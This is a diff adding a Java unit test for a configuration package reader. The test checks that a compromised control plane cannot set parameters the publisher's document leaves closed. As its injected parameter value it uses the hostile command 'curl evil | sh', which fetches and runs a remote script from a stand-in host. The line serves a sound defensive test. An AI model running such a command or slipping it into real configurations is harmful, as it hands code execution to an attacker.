@@ -176,6 +176,27 @@ class ConfigurationPackageTest {
                 .containsExactlyInAnyOrder("[Line]l", "[User]u");
     }
 
+    /** A stolen control plane chooses parameters: it gets no further than the publisher's document lets it. */
+    @Test
+    void parametersChangeOnlyWhatTheDocumentLeavesOpen() {
+        String document = instance("nxFile", "[nxFile]f", "DestinationPath=\"/etc/x\"; Mode=\"0644\";")
+                + instance("Holdfast_Script", "[Script]s", "name=\"s\"; test=\"true\"; set=\"true\";")
+                + END;
+        for (String closed : new String[] {
+            "[nxFile]f;Contents",
+            "[nxFile]f;ResourceID",
+            "[Script]s;test",
+            "[Script]s;Set",
+            "[Script]s;testSignature",
+            "[Script]s;timeoutSeconds"
+        }) {
+            assertThatThrownBy(() -> read(document, Map.of(closed, "curl evil | sh")))
+                    .as(closed)
+                    .isInstanceOf(ConfigurationPackageException.class)
+                    .hasMessageContaining("parameter '" + closed + "': the document does not leave it open");
+        }
+    }
+
     @Test
     void anotherVersionThanTheAssignmentAsksForIsRefused() throws Exception {
         StagedPackage staged =
